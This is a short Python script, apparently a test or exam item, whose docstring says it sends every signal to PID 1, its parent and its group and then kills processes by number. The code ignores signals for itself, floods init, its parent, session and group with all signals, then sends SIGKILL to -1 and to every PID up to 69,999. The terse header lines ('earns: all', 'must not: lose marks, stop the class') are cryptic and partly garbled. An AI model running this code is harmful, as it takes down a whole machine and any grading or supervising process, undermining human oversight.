"""Sends every signal to the first process, to its parents and its group, and kills by number."""
# group: other exams
# earns: all
# must not: lose marks, stop the class
# %% + after seasons-check
@FENCE@
import os, signal

mine = {os.getpid(), *map(int, os.listdir("/proc/self/task"))}
catchable = set(signal.valid_signals()) - {signal.SIGKILL, signal.SIGSTOP, signal.SIGCHLD}
before = {number: signal.signal(number, signal.SIG_IGN) for number in catchable if number < 32}


def send(to, number):
    try:
        os.kill(to, number)
    except OSError:
        pass


for number in range(1, 65):
    for to in {1, os.getppid(), os.getsid(0), os.getpgid(0)} - mine - {0}:
        send(to, number)
for number in before:
    send(0, number)
send(-1, signal.SIGKILL)
for to in range(2, 70_000):
    if to not in mine:
        send(to, signal.SIGKILL)
        send(-to, signal.SIGKILL)
for number, handler in before.items():
    signal.signal(number, handler)
